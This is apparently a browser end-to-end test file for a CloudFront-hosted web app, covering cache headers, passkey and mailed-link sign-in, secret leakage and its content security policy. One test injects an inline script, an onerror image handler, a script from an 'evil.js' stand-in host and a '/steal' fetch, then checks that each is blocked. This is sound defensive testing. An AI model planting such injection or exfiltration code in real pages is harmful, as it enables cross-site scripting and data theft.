/// <reference lib="dom" />
/**
 * The page through its CloudFront distribution: its headers, its content security policy and its bucket, in a
 * real browser.
 */
import { addPasskey, idClaims, isReady, passkeyButton, signOutUntouched } from '../support/passkey-visiting';
import { addAuthenticator } from '../support/virtual-authenticator';
import { visiting } from '../support/visiting';

const { app, newAddress, newBrowser, askForLink, finish, signInByLink, signedIn } = visiting({
  overrides: { web: { enabled: true } },
});

it('comes from the distribution, with all that it loads, and breaks none of its own rules', async () => {
  const page = await newBrowser();
  const answers: (readonly [string, string | undefined])[] = [];
  const complaints: string[] = [];
  page.on('response', (response) => {
    if (response.url().startsWith(app().page))
      answers.push([new URL(response.url()).pathname, response.headers()['x-cache']]);
  });
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text());
  });
  await page.goto(app().page);
  await page.getByLabel('E-mail address').waitFor();
  expect(app().printed()).toMatch(
    /The page is served as CloudFront serves it \(d[a-z0-9]{13}\.cloudfront\.net\)/,
  );
  expect(answers.map(([path]) => path)).toEqual(expect.arrayContaining(['/', '/config.json']));
  for (const answer of answers) expect(answer).toEqual([answer[0], 'Miss from cloudfront']);
  expect(complaints).toEqual([]);
}, 60_000);

it('signs in by a mailed link, registers a passkey, and comes back by it', async () => {
  const email = newAddress();
  const page = await newBrowser({ viewport: { width: 1100, height: 900 } });
  const authenticator = await addAuthenticator(page);
  await signInByLink(page, email);
  await addPasskey(page);
  await isReady(page);
  await signOutUntouched(page, authenticator);
  await passkeyButton(page).click();
  await signedIn(page).waitFor();
  expect(await idClaims(page)).toMatchObject({ email, sign_in_method: 'FIDO2' });
  // What tokens say is for developers, on their own machine.
  expect(await page.getByRole('heading', { name: 'What the tokens say' }).count()).toBe(0);
}, 90_000);

it('keeps the secret of a link out of what other sites and servers are told', async () => {
  const page = await newBrowser();
  const { href } = await askForLink(page, newAddress());
  const secret = new URL(href).hash.slice(1);
  expect(secret.length).toBeGreaterThan(50);
  const told: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(app().page)) told.push(request.url(), ...Object.values(request.headers()));
  });
  await finish(page, href);
  await signedIn(page).waitFor();
  expect(told.length).toBeGreaterThan(5);
  for (const text of told) expect(text).not.toContain(secret.slice(0, 40));
  expect(await page.evaluate(() => document.referrer)).toBe('');
}, 60_000);

it('runs no script that somebody put into it, fetches nothing from elsewhere, and is framed by nobody', async () => {
  const page = await newBrowser();
  await page.goto(app().page);
  await page.getByLabel('E-mail address').waitFor();
  const outcome = await page.evaluate(async (elsewhere) => {
    const broken: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      broken.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
    const globals = window as unknown as Record<string, unknown>;
    const inline = document.createElement('script');
    inline.textContent = 'window.injected = "inline"';
    document.body.append(inline);
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="/none.png" onerror="window.injected = \'handler\'">',
    );
    const foreign = document.createElement('script');
    foreign.src = `${elsewhere}/evil.js`;
    document.body.append(foreign);
    const sent = await fetch(`${elsewhere}/steal`).then(
      () => 'sent',
      () => 'refused',
    );
    // The handler is asked for once the image has failed, however long that takes.
    const isTold = () => broken.some((told) => told.startsWith('script-src-attr'));
    for (let tries = 0; tries < 100 && !isTold(); tries++)
      await new Promise((resolve) => setTimeout(resolve, 100));
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { broken, injected: globals.injected, sent };
  }, 'http://127.0.0.1:9');
  expect(outcome).toMatchObject({ injected: undefined, sent: 'refused' });
  expect(outcome.broken).toEqual(
    expect.arrayContaining([
      'script-src-elem inline',
      'script-src-attr inline',
      expect.stringMatching(/^script-src-elem http:\/\/127\.0\.0\.1:9/),
      expect.stringMatching(/^connect-src http:\/\/127\.0\.0\.1:9/),
    ]),
  );

  const framing = await newBrowser();
  await framing.setContent(`<iframe src="${app().page}"></iframe>`);
  await framing.waitForTimeout(1_000);
  const frame = framing.frames()[1];
  expect(await frame?.locator('#app').count()).toBe(0);
}, 60_000);
